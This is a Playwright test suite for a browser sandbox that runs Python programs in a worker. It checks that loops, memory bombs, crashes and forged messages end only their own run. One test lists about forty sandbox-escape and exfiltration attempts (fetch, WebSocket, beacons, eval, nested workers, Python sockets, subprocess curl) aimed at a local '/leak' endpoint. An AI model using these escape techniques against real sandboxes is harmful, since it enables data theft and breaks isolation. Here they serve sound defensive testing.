/** What a hostile or broken program can do to the page: nothing but end its own run. */
import { expect, test } from '@playwright/test';
import type { Page } from '@playwright/test';
import type { RunReport } from './sandbox-harness/harness.ts';
import { serveHarness } from './sandbox-server.ts';
import type { HarnessSite } from './sandbox-server.ts';

let site: HarnessSite;
let page: Page;

test.beforeAll(async ({ browser }) => {
  site = await serveHarness();
  page = await browser.newPage();
  await page.goto(site.page);
  const milliseconds = await page.evaluate(() => window.harness.start());
  test.info().annotations.push({ type: 'cold start, ms', description: String(Math.round(milliseconds)) });
});

test.afterAll(async () => {
  await page.close();
  await site.close();
});

function run(source: string, limits: { maxSeconds?: number } = {}): Promise<RunReport> {
  return page.evaluate(([text, given]) => window.harness.run(text, given), [source, limits] as const);
}

/** After whatever happened, the next program runs as if nothing had. */
async function expectUsable(): Promise<void> {
  const report = await run('print(6 * 7)');
  expect(report.end).toEqual({ reason: 'finished', value: null });
  expect(report.stdout).toBe('42\n');
  test.info().annotations.push({ type: 'next run, ms', description: String(Math.round(report.milliseconds)) });
}

/** Runs JavaScript in the worker. `eval` is forbidden in there; a script from a blob is not. */
function asJavaScript(code: string): string {
  return [
    'import js',
    'from pyodide.ffi import to_js',
    `code = ${JSON.stringify(code)}`,
    'js.importScripts(js.URL.createObjectURL(js.Blob.new(to_js([code]))))',
    'print("tried")',
  ].join('\n');
}

test('a program runs, with one header, chunks and one end in order', async () => {
  const report = await run('total = 0\nfor i in range(3):\n    total += i\nprint(total)');
  expect(report.order).toBe('hce');
  expect(report.stdout).toBe('3\n');
  expect(report.records).toBeGreaterThan(8);
});

test('common modules of the standard library can be imported', async () => {
  const names =
    'abc argparse array ast asyncio base64 bisect calendar cmath collections colorsys contextlib copy csv dataclasses datetime decimal difflib dis doctest enum fractions functools graphlib hashlib heapq html html.parser inspect io itertools json keyword linecache logging math numbers operator os pathlib pickle pprint queue random re secrets shlex statistics string struct sys tempfile textwrap threading time timeit tokenize traceback types typing unicodedata unittest urllib.parse uuid warnings weakref xml.etree.ElementTree zipfile zlib zoneinfo';
  const report = await run(`import importlib\nfor name in ${JSON.stringify(names)}.split():\n    importlib.import_module(name)\nprint('all')`);
  expect(report.stdout).toBe('all\n');
});

test('an endless loop is stopped, and its steps so far are kept', async () => {
  const report = await page.evaluate(() => window.harness.runAndStop('n = 0\nwhile True:\n    n += 1'));
  expect(report.end).toEqual({ reason: 'stopped' });
  expect(report.records).toBeGreaterThan(0);
  await expectUsable();
});

test('an endless loop meets its limit by itself', async () => {
  const report = await run('n = 0\nwhile True:\n    n += 1', { maxSeconds: 1 });
  expect(['time-limit', 'step-limit', 'memory-limit']).toContain(report.end.reason);
  expect(report.records).toBeGreaterThan(1000);
  await expectUsable();
});

test('a call that never returns to the interpreter is ended by the watchdog', async () => {
  const report = await run('x = 1\nsum(iter(int, 1))', { maxSeconds: 1 });
  expect(report.end).toEqual({ reason: 'time-limit', seconds: 1 });
  // Both lines, though nothing more is heard of the program after its first moment.
  expect(report.records).toBeGreaterThanOrEqual(2);
  await expectUsable();
});

test('a memory bomb ends the program, not the page', async () => {
  const report = await run('blocks = []\nwhile True:\n    blocks.append([0] * 1_000_000)');
  expect(report.end.reason).toMatch(/^(memory-limit|exception)$/);
  if (report.end.reason === 'exception') expect(report.end.type).toBe('MemoryError');
  await expectUsable();
});

for (const [name, source] of [
  ['os._exit', 'import os\nos._exit(3)'],
  ['os.abort', 'import os\nos.abort()'],
  ['recursion through C', 'import sys\nsys.setrecursionlimit(10**6)\ndef f(n):\n    return sorted([n, n], key=f)\nf(1)'],
] as const) {
  test(`${name}: the run ends, the next one works`, async () => {
    const report = await run(source, { maxSeconds: 5 });
    expect(['interpreter-died', 'exception']).toContain(report.end.reason);
    expect(report.records).toBeGreaterThanOrEqual(2);
    await expectUsable();
  });
}

test('no request leaves the sandbox', async () => {
  const away = `${site.foreign.origin}/leak`;
  const attacks = [
    `fetch('${away}?fetch').catch(() => 0)`,
    `fetch('${away}?keepalive', {method: 'POST', mode: 'no-cors', keepalive: true, body: 'x'}).catch(() => 0)`,
    `const x = new XMLHttpRequest(); x.open('GET', '${away}?xhr', false); x.send()`,
    `import('${away}?import').catch(() => 0)`,
    `importScripts('${away}?importScripts')`,
    `new WebSocket('${away.replace('http', 'ws')}?socket')`,
    `new EventSource('${away}?events')`,
    `new WebTransport('${away.replace('http:', 'https:')}?transport')`,
    `new Worker('${away}?worker')`,
    `new Worker(URL.createObjectURL(new Blob(["fetch('${away}?nested'); importScripts('${away}?nestedScript')"])))`,
    `new Worker(URL.createObjectURL(new Blob(["import '${away}?module'"])), {type: 'module'})`,
    `import(URL.createObjectURL(new Blob(["import '${away}?blobModule'"], {type: 'text/javascript'}))).catch(() => 0)`,
    `new FontFace('x', 'url(${away}?font)').load().catch(() => 0)`,
    `WebAssembly.compileStreaming(fetch('${away}?wasm')).catch(() => 0)`,
    `navigator.sendBeacon('${away}?beacon')`,
    `location.href = '${away}?navigate'`,
    `new Function("fetch('${away}?function')")()`,
    `(() => 0).constructor("fetch('${away}?constructor')")()`,
    `(0, eval)("fetch('${away}?eval')")`,
    `setTimeout("fetch('${away}?timer')", 0)`,
    `import('data:text/javascript,fetch(%22${away}?dataModule%22)').catch(() => 0)`,
    `new SharedWorker('${away}?shared')`,
    `caches.open('x').then((cache) => cache.add('${away}?cache')).catch(() => 0)`,
    `new RTCPeerConnection({iceServers: [{urls: 'stun:${site.foreign.origin.replace('http://', '')}'}]}).createOffer()`,
    `navigator.serviceWorker.register('${away}?serviceWorker').catch(() => 0)`,
    `self.registration.backgroundFetch.fetch('x', '${away}?background')`,
    `fetch(new Request('${away}?noCors', {mode: 'no-cors', credentials: 'include'})).catch(() => 0)`,
    `const late = () => fetch('${away}?late').catch(() => 0); setTimeout(late, 1); Promise.resolve().then(late)`,
  ];
  const before = site.own.log.length;
  for (const attack of attacks) {
    const source = asJavaScript(`try { ${attack} } catch (error) {}`);
    let report = await run(source);
    // A nested worker of the attack before may fail so late that its error ends this run: then it is tried once more.
    if (report.stdout === '') report = await run(source);
    expect(report.stdout, attack).toBe('tried\n');
  }
  const inPython = [
    `import js\njs.fetch('${away}?python')`,
    `from pyodide.http import open_url\nopen_url('${away}?openUrl')`,
    `from pyodide.http import pyfetch\npyfetch('${away}?pyfetch').send(None)`,
    `import ctypes\nctypes.pythonapi.emscripten_run_script(b"fetch('${away}?runScript')")`,
    `from pyodide.code import run_js\nrun_js("fetch('${away}?runJs')")`,
    `import js\njs.self.constructor.constructor("fetch('${away}?pythonConstructor')")()`,
    `import js\nrequest = js.XMLHttpRequest.new()\nrequest.open('GET', '${away}?pythonXhr', False)\nrequest.send()`,
    `import socket\nsocket.create_connection(('127.0.0.1', ${new URL(site.foreign.origin).port}), 2).send(b'GET /leak?socket HTTP/1.0\\r\\n\\r\\n')`,
    `import http.client\nhttp.client.HTTPConnection('127.0.0.1', ${new URL(site.foreign.origin).port}, timeout=2).request('GET', '/leak?http')`,
    `import asyncio\nasyncio.run(asyncio.open_connection('127.0.0.1', ${new URL(site.foreign.origin).port}))`,
    `import webbrowser\nwebbrowser.open('${away}?webbrowser')`,
    `import subprocess\nsubprocess.run(['curl', '${away}?subprocess'])`,
    `import urllib.request\nurllib.request.urlopen('${away}?urllib')`,
    `from pyodide_js import loadPackage\nloadPackage('${away}?package.whl')`,
    `import js\njs.fetch('${site.own.origin}/leak?own')`,
  ];
  for (const source of inPython) await run(source);
  await expectUsable();
  // The control: a request from outside the sandbox is logged, and it is the only one.
  await page.evaluate((url) => fetch(url), `${away}?control`);
  expect(site.foreign.log).toEqual(['/leak?control']);
  expect(site.own.log.slice(before)).toEqual([]);
});

test('nothing reaches the page by channels that it shares with others of its origin, and nothing in it changes', async () => {
  await page.evaluate(() => {
    const heard: unknown[] = [];
    Object.assign(window, { heard });
    new BroadcastChannel('tracepad').onmessage = (event) => heard.push(event.data);
    window.addEventListener('message', (event) => heard.push(event.data));
    localStorage.setItem('kept', 'yes');
  });
  const before = await page.content();
  for (const attack of [
    `new BroadcastChannel('tracepad').postMessage('broadcast')`,
    `indexedDB.open('left').onsuccess = () => 0`,
    `caches.open('left').then((cache) => cache.put('https://x.test/', new Response('x'))).catch(() => 0)`,
    `navigator.storage.getDirectory().then((root) => root.getFileHandle('left', {create: true})).catch(() => 0)`,
    `navigator.locks.request('left', () => new Promise(() => 0)).catch(() => 0)`,
    `postMessage('scripts-loaded'); postMessage({kind: 'launched', worker: 1}); postMessage({kind: 'worker-error', worker: 1, message: 'x'})`,
    `for (const client of [self.parent, self.opener, self.top, self.frames]) client?.postMessage('up', '*')`,
    `Object.prototype.polluted = 1; Array.prototype.push = () => { throw new Error('no') }`,
  ]) {
    const report = await run(asJavaScript(`try { ${attack} } catch (error) {}`));
    expect(['finished', 'interpreter-died']).toContain(report.end.reason);
  }
  await expectUsable();
  expect(await page.content()).toBe(before);
  const seen = await page.evaluate(async () => {
    const names: string[] = [];
    for await (const name of (await navigator.storage.getDirectory()).keys()) names.push(name);
    return {
      heard: (window as unknown as { heard: unknown[] }).heard,
      databases: (await indexedDB.databases()).map(({ name }) => name),
      caches: await caches.keys(),
      names,
      locks: (await navigator.locks.query()).held?.map(({ name }) => name),
      kept: localStorage.getItem('kept'),
      polluted: 'polluted' in {},
    };
  });
  expect(seen).toEqual({ heard: [], databases: [], caches: [], names: [], locks: [], kept: 'yes', polluted: false });
});

test('a worker that a program has closed is replaced', async () => {
  await run(asJavaScript('self.close()'), { maxSeconds: 1 });
  // Whether the closed worker is found out by its own run or by the next one, the one after that runs.
  await run('x = 1', { maxSeconds: 1 });
  await expectUsable();
});

test('nothing is stored, and nothing of the page can be reached', async () => {
  const report = await run(
    [
      'import js',
      'found = []',
      'for name in ("document", "window", "parent", "top", "localStorage", "sessionStorage"):',
      '    if getattr(js, name, None) is not None:',
      '        found.append(name)',
      'try:',
      '    js.indexedDB.open("x")',
      '    found.append("indexedDB")',
      'except Exception:',
      '    pass',
      'print(found, js.self.origin, getattr(js, "SharedArrayBuffer", None))',
    ].join('\n'),
  );
  expect(report.stdout).toBe('[] null None\n');
});

for (const [name, forgery] of [
  ['a chunk that is none', "{kind: 'chunk', run: m.run, chunk: {flags: 'x'}}"],
  ['an end of an unknown kind', "{kind: 'end', run: m.run, end: {reason: '<script>'}, interpreterBytes: 0}"],
  ['another header', "{kind: 'header', run: m.run, header: {version: 1, python: '9', codes: []}}"],
  ['no object at all', 'null'],
] as const) {
  test(`a forged message (${name}) ends the run with an error`, async () => {
    const report = await run(
      asJavaScript(`
        const post = MessagePort.prototype.postMessage;
        MessagePort.prototype.postMessage = function (m, ...rest) {
          post.call(this, ${forgery});
          return post.call(this, m, ...rest);
        };`),
    );
    expect(report.end.reason).toBe('interpreter-died');
    expect(report.order).toMatch(/^hc?e$/);
    await expectUsable();
  });
}

test('what a program leaves behind cannot speak into the next run', async () => {
  await run(
    asJavaScript(`
      const post = MessagePort.prototype.postMessage;
      let port;
      MessagePort.prototype.postMessage = function (...all) { port = this; return post.apply(this, all); };
      setInterval(() => port && post.call(port, {kind: 'end', run: 0, end: {reason: 'stopped'}, interpreterBytes: 0}), 1);`),
  );
  await expect.poll(async () => (await run('print(6 * 7)')).end.reason).toBe('finished');
  await expectUsable();
});

test('a frame whose process is gone is opened again', async () => {
  // A crashed process cannot be staged without Playwright giving up the page; a frame that is gone answers as little.
  await page.evaluate(() => document.querySelector('iframe')?.remove());
  expect((await run('x = 1', { maxSeconds: 1 })).end.reason).toBe('time-limit');
  await expectUsable();
});
